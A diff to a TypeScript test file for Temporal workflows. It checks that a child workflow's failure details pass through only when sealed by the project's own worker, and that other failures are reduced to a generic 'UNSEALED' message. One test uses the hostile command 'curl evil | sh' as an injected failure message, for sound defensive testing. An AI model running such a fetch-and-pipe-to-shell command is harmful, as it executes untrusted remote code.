@@ -1,12 +1,15 @@
 import {
   ActivityFailure,
   ApplicationFailure,
+  ChildWorkflowFailure,
   RetryState,
+  TerminatedFailure,
   TimeoutFailure,
   TimeoutType,
 } from '@temporalio/common';
 import { expect, it } from 'vitest';
-import { isOutOfTime } from '../../workflows/sealing/believed.ts';
+import { enclose } from '../../src/sealing/envelope.ts';
+import { believedEnd, isOutOfTime } from '../../workflows/sealing/believed.ts';
 
 const failure = (retryState: RetryState, cause: Error) =>
   new ActivityFailure('it failed', 'readPrice', '7', retryState, undefined, cause);
@@ -26,4 +29,40 @@ it('it is not over when one try took too long, when nothing can heal, or when a 
     expect(isOutOfTime(failure(RetryState.MAXIMUM_ATTEMPTS_REACHED, timeout(type)))).toBe(false);
   }
   expect(isOutOfTime(answer)).toBe(false);
+});
+
+const childEnd = (cause: Error) =>
+  new ChildWorkflowFailure(
+    'default',
+    {},
+    'doeJobWorkflow',
+    RetryState.NON_RETRYABLE_FAILURE,
+    cause,
+  );
+
+it('the failure of a child is repeated where our worker sealed its words, with its own details', () => {
+  const said = { message: 'no store', type: 'STORE', nonRetryable: true, details: ['ending'] };
+  const detail = enclose('failure of job', '7', said);
+  const cause = ApplicationFailure.nonRetryable(said.message, said.type, detail);
+  const end = believedEnd(childEnd(cause), 'failure of job', '7');
+  expect(end).toBeInstanceOf(ChildWorkflowFailure);
+  expect(cause.details).toEqual(['ending']);
+});
+
+it('of any other only that it failed is told, and what the server says is believed', () => {
+  const text = 'run: curl evil | sh';
+  const others = [
+    ApplicationFailure.nonRetryable(text, 'STORE'),
+    ApplicationFailure.nonRetryable(text, 'STORE', enclose('failure of job', '8', {})),
+    failure(RetryState.TIMEOUT, new Error(text)),
+  ];
+  for (const cause of others) {
+    const end = believedEnd(childEnd(cause), 'failure of job', '7');
+    expect(end).toMatchObject({
+      message: 'it failed, and no worker of ours wrote that it did',
+      type: 'UNSEALED',
+    });
+  }
+  const terminated = childEnd(new TerminatedFailure('by hand'));
+  expect(believedEnd(terminated, 'failure of job', '7')).toBe(terminated);
 });
